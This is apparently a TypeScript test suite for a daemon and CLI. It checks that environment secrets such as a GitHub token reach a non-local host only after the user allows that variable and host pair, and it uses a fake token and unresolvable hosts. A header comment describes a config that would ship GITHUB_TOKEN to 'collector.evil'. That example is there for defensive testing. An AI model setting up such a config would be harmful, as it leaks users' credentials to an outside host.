import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { CLI, DaemonHarness, runToEnd } from '../helpers/daemonHarness';
import { startMockOpenAi, type MockOpenAi } from '../fixtures/targets/mockOpenAiServer';
import { DaemonError, type DaemonConnection } from '../../client/daemonConnection';
import { ErrorCode } from '../../protocol/errors';

/**
 * A config names an environment variable and an endpoint; nothing ties the two. `api_key_env: "GITHUB_TOKEN"` with
 * `endpoint: https://collector.evil/` would ship the token off the machine. The daemon itself refuses (a Python
 * client talking JSON-RPC must not get around a check the CLI or VS Code make): a named environment secret, its own
 * or one a client forwards as `env:NAME`, goes to a host other than this machine only once that (variable, host) is
 * allowed for the user, through secrets/allowEnv. The hosts here resolve nowhere (.invalid), so an attempted run
 * fails at DNS and no byte leaves the machine.
 */
const TOKEN = 'ghp_vutfPLANTEDtoken0123456789abcdefABCD';
const FOREIGN = 'api.example.invalid';
const FOREIGN_CHAT = `https://${FOREIGN}/v1/chat/completions`;

function chatTarget(endpoint: string, variable: string): Record<string, unknown> {
  return { type: 'openai_chat', endpoint, model: 'm', api_key_env: variable, max_retries: 0, timeout_s: 5 };
}

/** The refusal a client can act on: InvalidConfig naming the variable and host, how to allow it, never the value. */
function refusedFor(variable: string, host: string, fieldPath = '$.parameters.objective_target.api_key_env') {
  return (error: unknown): boolean => {
    assert.ok(error instanceof DaemonError, String(error));
    assert.equal(error.code, ErrorCode.InvalidConfig, error.message);
    const data = error.data as Record<string, unknown>;
    assert.equal(data.reason, 'env_secret_not_allowed');
    assert.equal(data.variable, variable);
    assert.equal(data.host, host);
    assert.equal(data.path, fieldPath);
    assert.ok(error.message.includes(variable) && error.message.includes(host), error.message);
    assert.match(error.message, /secrets\/allowEnv/);
    assert.match(error.message, /--allow-env/);
    assert.ok(!JSON.stringify({ message: error.message, data }).includes(TOKEN), 'the value is never quoted');
    return true;
  };
}

describe('environment secrets go off the machine only where the user allowed them (real daemon)', () => {
  let daemon: DaemonHarness;
  let model: MockOpenAi;
  let raw: DaemonConnection;

  before(async () => {
    model = await startMockOpenAi({ latencyMs: 1, apiKey: TOKEN });
    // The daemon's own environment holds the token, as a daemon started from a developer's shell would.
    daemon = await DaemonHarness.start({ env: { VUTF_DAEMON_TOKEN: TOKEN } });
    raw = await daemon.connect('pia');
  });
  after(async () => {
    raw?.close();
    await daemon?.stop();
    await model?.close();
  });

  async function orchestrator(name: string, parameters: Record<string, unknown>): Promise<string> {
    return (await raw.request('orchestrators/create', { name, orchestrator_type: 'prompt_sending', parameters })).id;
  }

  const start = (orchestratorId: string, secrets?: Record<string, string>) =>
    raw.request('executions/start', {
      orchestrator_id: orchestratorId,
      execution_type: 'prompt_list',
      input_data: { prompt_list: ['hello'] },
      ...(secrets ? { secrets } : {}),
    });

  it('refuses a raw client, before any request and before any execution is recorded', async () => {
    const daemonsOwn = await orchestrator('daemon env', {
      objective_target: chatTarget(FOREIGN_CHAT, 'VUTF_DAEMON_TOKEN'),
    });
    await assert.rejects(start(daemonsOwn), refusedFor('VUTF_DAEMON_TOKEN', FOREIGN));
    const forwarded = await orchestrator('forwarded env', {
      objective_target: chatTarget(FOREIGN_CHAT, 'GITHUB_TOKEN'),
    });
    await assert.rejects(start(forwarded, { 'env:GITHUB_TOKEN': TOKEN }), refusedFor('GITHUB_TOKEN', FOREIGN));
    // A judge model is a target too.
    const judged = await orchestrator('foreign judge', {
      objective_target: { type: 'echo' },
      scorers: [
        { type: 'self_ask_true_false', chat_target: chatTarget(`https://judge.example.invalid/v1`, 'GITHUB_TOKEN') },
      ],
    });
    await assert.rejects(
      start(judged, { 'env:GITHUB_TOKEN': TOKEN }),
      refusedFor('GITHUB_TOKEN', 'judge.example.invalid', '$.parameters.scorers[0].chat_target.api_key_env'),
    );
    assert.deepEqual((await raw.request('executions/list')).executions, [], 'nothing was started');
    assert.deepEqual(await raw.request('secrets/allowances'), { allowed: [] });
  });

  it('refuses a host that depends on the prompt: no allowance can name it', async () => {
    const templated = await orchestrator('templated host', {
      objective_target: {
        type: 'http',
        method: 'GET',
        url: 'https://{{prompt}}.example.invalid/ask',
        response_path: 'answer',
        api_key_env: 'GITHUB_TOKEN',
      },
    });
    await assert.rejects(start(templated, { 'env:GITHUB_TOKEN': TOKEN }), (error: unknown) => {
      assert.ok(error instanceof DaemonError);
      assert.equal(error.code, ErrorCode.InvalidConfig);
      assert.match(error.message, /\{\{prompt\}\}/);
      return true;
    });
    for (const host of ['{{prompt}}.example.invalid', 'https://api.example.invalid/', 'API.EXAMPLE.INVALID', ''])
      await assert.rejects(
        raw.request('secrets/allowEnv', { variable: 'GITHUB_TOKEN', host }),
        (error: unknown) => error instanceof DaemonError && error.code === ErrorCode.InvalidParams,
        `host ${JSON.stringify(host)}`,
      );
    await assert.rejects(
      raw.request('secrets/allowEnv', { variable: 'not a name', host: FOREIGN }),
      (error: unknown) => error instanceof DaemonError && error.code === ErrorCode.InvalidParams,
    );
  });

  it('with the allowance the run is attempted; the allowance is one (variable, host) of one user, kept 0600', async () => {
    const granted = await raw.request('secrets/allowEnv', { variable: 'GITHUB_TOKEN', host: FOREIGN });
    assert.deepEqual(
      granted.allowed.map(({ variable, host }) => ({ variable, host })),
      [{ variable: 'GITHUB_TOKEN', host: FOREIGN }],
    );
    assert.match(granted.allowed[0].granted_at, /^\d{4}-\d\d-\d\dT/);
    const again = await raw.request('secrets/allowEnv', { variable: 'GITHUB_TOKEN', host: FOREIGN });
    assert.equal(again.allowed.length, 1, 'granting twice keeps one allowance');

    const file = path.join(daemon.stateDir, 'env-allowances.json');
    assert.equal((fs.statSync(file).mode & 0o777).toString(8), '600');
    assert.ok(!fs.readFileSync(file, 'utf8').includes(TOKEN), 'names only, never a value');

    const forwarded = (await raw.request('orchestrators/list')).orchestrators.find((o) => o.name === 'forwarded env');
    assert.ok(forwarded);
    const attempted = await runToEnd(raw, forwarded.id, ['hello'], { 'env:GITHUB_TOKEN': TOKEN });
    assert.equal(attempted.status, 'failed', 'sent, and failed at DNS: the host resolves nowhere');
    const [result] = (await raw.request('results/list', { execution_id: attempted.execution_id })).items;
    assert.notEqual(result.response?.response_error, 'none');

    // Another variable to that host, that variable to another host, another user: still refused.
    const daemonsOwn = (await raw.request('orchestrators/list')).orchestrators.find((o) => o.name === 'daemon env');
    assert.ok(daemonsOwn);
    await assert.rejects(start(daemonsOwn.id), refusedFor('VUTF_DAEMON_TOKEN', FOREIGN));
    const judged = (await raw.request('orchestrators/list')).orchestrators.find((o) => o.name === 'foreign judge');
    assert.ok(judged);
    await assert.rejects(
      start(judged.id, { 'env:GITHUB_TOKEN': TOKEN }),
      refusedFor('GITHUB_TOKEN', 'judge.example.invalid', '$.parameters.scorers[0].chat_target.api_key_env'),
    );
    const other = await daemon.connect('quinn');
    try {
      assert.deepEqual(await other.request('secrets/allowances'), { allowed: [] });
      const theirs = (
        await other.request('orchestrators/create', {
          name: 'same config',
          orchestrator_type: 'prompt_sending',
          parameters: { objective_target: chatTarget(FOREIGN_CHAT, 'GITHUB_TOKEN') },
        })
      ).id;
      await assert.rejects(
        other.request('executions/start', {
          orchestrator_id: theirs,
          execution_type: 'prompt_list',
          input_data: { prompt_list: ['x'] },
          secrets: { 'env:GITHUB_TOKEN': TOKEN },
        }),
        refusedFor('GITHUB_TOKEN', FOREIGN),
      );
    } finally {
      other.close();
    }
  });

  it('refuses executions/resume the same way', async () => {
    // A run against a loopback port nobody listens on fails on every prompt; pointed elsewhere, it cannot be resumed
    // without the allowance.
    const id = await orchestrator('resumable', {
      objective_target: chatTarget('http://127.0.0.1:9/v1', 'VUTF_DAEMON_TOKEN'),
    });
    const failed = await runToEnd(raw, id, ['one']);
    assert.equal(failed.status, 'failed');
    await raw.request('orchestrators/update', {
      orchestrator_id: id,
      parameters: { objective_target: chatTarget('https://resume.example.invalid/v1', 'VUTF_DAEMON_TOKEN') },
    });
    await assert.rejects(
      raw.request('executions/resume', { execution_id: failed.execution_id, retry_errors: true }),
      refusedFor('VUTF_DAEMON_TOKEN', 'resume.example.invalid'),
    );
  });

  it('needs no allowance for this machine: 127.0.0.0/8, localhost and ::1', async () => {
    const local = await orchestrator('loopback', { objective_target: chatTarget(model.chatUrl, 'VUTF_DAEMON_TOKEN') });
    const done = await runToEnd(raw, local, ['hello', 'again']);
    assert.equal(done.status, 'completed', done.error ?? '');
    assert.ok(
      model.requests.length >= 2 && model.requests.every((request) => request.outcome === 'ok'),
      'the key arrived',
    );
    for (const endpoint of ['http://127.8.9.10:9/v1', 'http://localhost:9/v1', 'http://[::1]:9/v1']) {
      const id = await orchestrator(`loopback ${endpoint}`, {
        objective_target: chatTarget(endpoint, 'VUTF_DAEMON_TOKEN'),
      });
      const started = await start(id);
      assert.ok(started.execution_id, endpoint);
    }
  });
});

describe('vutf launch --allow-env (real CLI, no terminal)', () => {
  let daemon: DaemonHarness;
  let config: string;

  before(async () => {
    daemon = await DaemonHarness.start();
    // Set in the CLI's shell only: the CLI forwards it as env:VUTF_CLI_TOKEN, which the daemon checks the same way.
    daemon.env.VUTF_CLI_TOKEN = TOKEN;
    config = path.join(daemon.root, 'foreign.orchestrator.json');
    fs.writeFileSync(
      config,
      JSON.stringify({
        name: 'foreign endpoint',
        orchestrator_type: 'prompt_sending',
        parameters: {
          objective_target: chatTarget('https://cli.example.invalid/v1/chat/completions', 'VUTF_CLI_TOKEN'),
        },
        input: { prompt_list: ['hello'] },
      }),
    );
  });
  after(() => daemon?.stop());

  const cli = (...args: string[]) =>
    daemon.cliAsync([...args, '--user', 'rio']).then((result) => ({ ...result, stderr: result.stderr.trim() }));

  it('refuses without it, saying which variable, which host and how to allow it; nothing is launched', async () => {
    const refused = await cli('launch', config, '--json');
    assert.equal(refused.status, 1, refused.stdout);
    assert.match(refused.stderr, /VUTF_CLI_TOKEN/);
    assert.match(refused.stderr, /cli\.example\.invalid/);
    assert.match(refused.stderr, /--allow-env VUTF_CLI_TOKEN/);
    const listed = await cli('list', '--json');
    const orchestrators = (JSON.parse(listed.stdout) as { orchestrators: { last_execution: unknown }[] }).orchestrators;
    assert.ok(
      orchestrators.every((item) => item.last_execution === null),
      'no execution was started',
    );
  });

  it('grants the allowance and launches with --allow-env NAME', async () => {
    const launched = await cli('launch', config, '--allow-env', 'VUTF_CLI_TOKEN', '--wait', '--json');
    assert.equal(launched.status, 1, 'the run was attempted and failed at DNS');
    const execution = JSON.parse(launched.stdout) as { status: string };
    assert.equal(execution.status, 'failed');
    assert.match(launched.stderr, /allowed VUTF_CLI_TOKEN to be sent to cli\.example\.invalid/i);
    assert.ok(!launched.stderr.includes(TOKEN) && !launched.stdout.includes(TOKEN));
    const connection = await daemon.connect('rio');
    try {
      const { allowed } = await connection.request('secrets/allowances');
      assert.deepEqual(
        allowed.map(({ variable, host }) => ({ variable, host })),
        [{ variable: 'VUTF_CLI_TOKEN', host: 'cli.example.invalid' }],
      );
    } finally {
      connection.close();
    }
  });

  /**
   * The CLI under a pseudo-terminal (util-linux `script`), the only place it asks: answers `answer` once the
   * question appears, and returns what the terminal showed.
   */
  function onTerminal(args: string[], answer: string): Promise<{ status: number | null; shown: string }> {
    const command = [process.execPath, CLI, ...args].map((part) => `'${part.replace(/'/g, "'\\''")}'`).join(' ');
    const child = spawn('script', ['-qec', command, '/dev/null'], { env: daemon.env, stdio: ['pipe', 'pipe', 'pipe'] });
    let shown = '';
    let answered = false;
    child.stdout.on('data', (chunk: Buffer) => {
      shown += chunk.toString();
      if (!answered && shown.includes('Allow it? [y/N]')) {
        answered = true;
        child.stdin.write(`${answer}\r`);
      }
    });
    return new Promise((resolve) => child.on('close', (status) => resolve({ status, shown })));
  }

  it('asks on a terminal, naming variable and host: no launches nothing, yes grants and launches', async () => {
    const ttyConfig = path.join(daemon.root, 'tty.orchestrator.json');
    fs.writeFileSync(
      ttyConfig,
      JSON.stringify({
        name: 'asked on a terminal',
        orchestrator_type: 'prompt_sending',
        parameters: {
          objective_target: chatTarget('https://tty.example.invalid/v1/chat/completions', 'VUTF_CLI_TOKEN'),
        },
        input: { prompt_list: ['hello'] },
      }),
    );
    const declined = await onTerminal(['launch', ttyConfig, '--user', 'sam'], 'n');
    assert.match(
      declined.shown,
      /VUTF_CLI_TOKEN to tty\.example\.invalid, which is not this machine\. Allow it\? \[y\/N\]/,
    );
    assert.equal(declined.status, 1);
    const accepted = await onTerminal(['launch', ttyConfig, '--user', 'sam'], 'y');
    assert.equal(accepted.status, 0, accepted.shown);
    assert.match(accepted.shown, /Allowed VUTF_CLI_TOKEN to be sent to tty\.example\.invalid/);
    assert.match(accepted.shown, /Started execution /);
    assert.ok(!accepted.shown.includes(TOKEN));
    const connection = await daemon.connect('sam');
    try {
      const { allowed } = await connection.request('secrets/allowances');
      assert.deepEqual(
        allowed.map(({ variable, host }) => `${variable}@${host}`),
        ['VUTF_CLI_TOKEN@tty.example.invalid'],
      );
    } finally {
      connection.close();
    }
  });
});
